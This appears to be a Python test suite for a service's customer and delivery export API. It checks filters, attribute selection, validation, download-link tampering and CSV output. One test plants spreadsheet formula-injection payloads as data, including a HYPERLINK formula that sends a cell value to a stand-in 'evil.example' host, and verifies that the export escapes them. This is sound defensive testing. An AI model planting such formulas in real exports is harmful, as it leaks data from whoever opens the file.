"""Exports that really export: asked for at the door, written by the worker, downloaded by a link."""

from __future__ import annotations

import csv
import http.client
import io
import json
import string
from asyncio import to_thread
from contextlib import suppress
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlsplit

from pushkeeper.errors import NotFound
from support.engine import eventually

if TYPE_CHECKING:
    from support.engine import Tenant


async def export(tenant: Tenant, kind: str, body: dict[str, Any]) -> list[dict[str, str]]:
    """The rows of an export, once it is written."""
    number = (await tenant.call("POST", f"/v1/exports/{kind}", body))["export"]["id"]

    async def done() -> Any:
        found = (await tenant.call("GET", f"/v1/exports/{number}"))["export"]
        return found if found["status"] == "done" else None

    written = await eventually(done)
    link = urlsplit((await tenant.call("GET", f"/v1/exports/{number}/download"))["url"]).path
    status, text, headers = await to_thread(fetch, tenant, link)
    assert (status, headers["content-type"]) == (200, "text/csv; charset=utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == written["total"]
    return rows


def fetch(tenant: Tenant, path: str) -> tuple[int, str, dict[str, str]]:
    """What a browser without a key gets."""
    connection = http.client.HTTPConnection("127.0.0.1", tenant.engine.port, timeout=60)
    try:
        connection.request("GET", path)
        response = connection.getresponse()
        return response.status, response.read().decode(), dict(response.getheaders())
    finally:
        connection.close()


async def test_people_are_exported_by_a_filter(tenant: Tenant, bare: Tenant) -> None:
    for person, attributes in (
        ("ann", {"plan": "pro", "email": "ann@x.io", "note": 'says "a, b"\nand more'}),
        ("ben", {"plan": "free"}),
    ):
        await tenant.call("PUT", f"/api/v1/customers/{person}", attributes, track=True)
        await bare.call("PUT", f"/api/v1/customers/{person}", attributes, track=True)
    [ann] = await export(
        tenant, "customers", {"filters": {"attribute": {"field": "plan", "operator": "eq", "value": "pro"}}}
    )
    assert (ann["id"], ann["email"], ann["unsubscribed"]) == ("ann", "ann@x.io", "false")
    assert json.loads(ann["attributes"])["note"] == 'says "a, b"\nand more'
    # What the live suite of Customer.io's own client asks for.
    assert await export(tenant, "customers", {"filters": {"or": [{"segment": {"id": 0}}]}}) == []
    listed = (await tenant.call("GET", "/v1/exports"))["exports"]
    assert [one["type"] for one in listed] == ["customers", "customers"]
    await bare.call("GET", f"/v1/exports/{listed[0]['id']}", expect=404)
    await bare.call("GET", f"/v1/exports/{listed[0]['id']}/download", expect=404)


async def test_people_are_exported_with_the_attributes_that_are_asked_for(tenant: Tenant) -> None:
    for person, attributes in (
        ("ann", {"plan": "pro", "city": "Bern", "tags": ["a", "b"], "created_at": 7}),
        ("ben", {"plan": "free"}),
    ):
        await tenant.call("PUT", f"/api/v1/customers/{person}", attributes, track=True)
    filters = {"attribute": {"field": "plan", "operator": "exists"}}
    names = ["plan", "email", "created_at", "unsubscribed", "tags", "nobody's", "plan"]
    ann, ben = await export(tenant, "customers", {"filters": filters, "attributes": names})
    assert list(ann) == ["id", "email", "cio_id", "plan", "created_at", "unsubscribed", "tags", "nobody's"]
    assert (ann["id"], ann["plan"], ann["created_at"], ann["unsubscribed"]) == ("ann", "pro", "7", "false")
    assert (json.loads(ann["tags"]), ann["nobody's"], ben["tags"]) == (["a", "b"], "", "")
    assert int(ben["created_at"]) > 1_700_000_000, "when the person was made"
    nothing: object
    for nothing in ([], None):
        rows = await export(tenant, "customers", {"filters": filters, "attributes": nothing})
        assert [row["id"] for row in rows] == ["ann", "ben"]
        assert ("attributes" in rows[0]) is (nothing is None)


async def test_names_of_attributes_are_checked(tenant: Tenant) -> None:
    filters = {"attribute": {"field": "plan", "operator": "exists"}}
    for attributes, field in (
        ("plan", "attributes"),
        ([3], "attributes[0]"),
        (["plan", ""], "attributes[1]"),
        (["n" * 151], "attributes[0]"),
        ([str(n) for n in range(301)], "attributes"),
    ):
        for path in ("customers", "deliveries"):
            body = {"filters": filters, "attributes": attributes}
            answer = await tenant.call("POST", f"/v1/exports/{path}", body, expect=400)
            assert answer["errors"][0]["detail"].startswith(f"{field}:")


async def test_deliveries_are_exported_with_attributes_of_their_recipients(tenant: Tenant) -> None:
    [token] = tenant.mint("android")
    await tenant.call("PUT", "/api/v1/customers/ann", {"plan": "pro"}, track=True)
    await tenant.register("ann", token, "android")
    await tenant.push("ann")
    await tenant.settled(1)
    [row] = await export(tenant, "deliveries", {"attributes": ["plan", "city", "sent"]})
    assert (row["id"], row["plan"], row["city"]) == ("ann", "pro", "")
    assert int(row["sent"]) > 0


async def test_deliveries_are_exported_with_their_outcomes(tenant: Tenant) -> None:
    [token] = tenant.mint("android")
    await tenant.register("ann", token, "android")
    made = await tenant.call(
        "POST", "/api/v1/templates", {"kind": "transactional", "name": "A", "title": "Hello"}, expect=201
    )
    number = made["template"]["id"]
    sent = await tenant.push("ann", transactional_message_id=number)
    await tenant.push("ann")
    await tenant.call("PUT", "/api/v1/customers/sam", {}, track=True)
    await tenant.push("sam")
    await tenant.settled(3)
    rows = await export(tenant, "deliveries", {"newsletter_id": number})
    assert [(row["delivery_id"], row["id"], bool(row["sent"]), row["bounced"]) for row in rows] == [
        (sent, "ann", True, "")
    ]
    assert len(await export(tenant, "deliveries", {})) == 3
    [nobody] = await export(tenant, "deliveries", {"metric": "undeliverable"})
    assert nobody["id"] == "sam"


async def test_an_export_holds_no_formula_of_an_app(tenant: Tenant) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&B2,"open")'
    for person, email in ((formula, "+cmd@x.io"), ("@SUM(A1)", "-1@x.io"), ("x;=1+1", "ann@x.io")):
        path = f"/api/v1/customers/{quote(person, safe='')}"
        await tenant.call("PUT", path, {"email": email, "plan": "=1"}, track=True)
    rows = await export(
        tenant, "customers", {"filters": {"attribute": {"field": "plan", "operator": "exists"}}}
    )
    assert {(row["id"], row["email"]) for row in rows} == {
        (f"'{formula}", "'+cmd@x.io"),
        ("'@SUM(A1)", "'-1@x.io"),
        ("x;'=1+1", "ann@x.io"),
    }
    assert {json.loads(row["attributes"])["plan"] for row in rows} == {"=1"}


async def test_a_link_of_which_anything_was_changed_opens_nothing(tenant: Tenant) -> None:
    await export(tenant, "customers", {"filters": {"attribute": {"field": "x", "operator": "exists"}}})
    [number] = [one["id"] for one in (await tenant.call("GET", "/v1/exports"))["exports"]]
    path = urlsplit((await tenant.call("GET", f"/v1/exports/{number}/download"))["url"]).path
    link = path.rpartition("/")[2]
    rooms = tenant.engine.store.services.customerio_exports
    assert rooms.opened_by(link) == (tenant.workspace_id, number)

    def opens(other: str) -> bool:
        with suppress(NotFound):
            return rooms.opened_by(other) is not None
        return False

    letters = string.ascii_letters + string.digits + "-_+/=!. "
    changed = [f"{link[:n]}{letter}{link[n + 1 :]}" for n in range(len(link)) for letter in letters]
    longer = [f"{link[:n]}{letter}{link[n:]}" for n in range(len(link) + 1) for letter in letters]
    cut = [link[:n] + link[n + 1 :] for n in range(len(link))]
    opened = {other for other in (*changed, *longer, *cut) if opens(other)}
    assert opened == {link}
    # At the door too: each character changed, and the link itself.
    for n, letter in enumerate(link):
        other = f"/exports/{link[:n]}{'A' if letter != 'A' else 'B'}{link[n + 1 :]}"
        assert (await to_thread(fetch, tenant, other))[0] == 404
    assert (await to_thread(fetch, tenant, path))[0] == 200


async def test_a_link_that_is_not_ours_opens_nothing(tenant: Tenant) -> None:
    for link in ("nonsense", "A" * 60, "%20"):
        status, text, _ = await to_thread(fetch, tenant, f"/exports/{link}")
        assert (status, json.loads(text)["errors"][0]["status"]) == (404, "404")


async def test_a_bad_request_for_an_export_is_refused_by_its_field(tenant: Tenant) -> None:
    for kind, body, said in (
        ("customers", {}, "filters"),
        ("customers", {"filters": {"nonsense": 1}}, "filters"),
        ("deliveries", {"newsletter_id": "x"}, "newsletter_id"),
        ("deliveries", {"metric": "eaten"}, "metric"),
        ("deliveries", {"start": "soon"}, "start"),
        ("deliveries", {"drafts": 1}, "drafts"),
    ):
        answer = await tenant.call("POST", f"/v1/exports/{kind}", body, expect=400)
        assert answer["errors"][0]["detail"].startswith(said), answer
    assert (await tenant.call("GET", "/v1/exports"))["exports"] == []
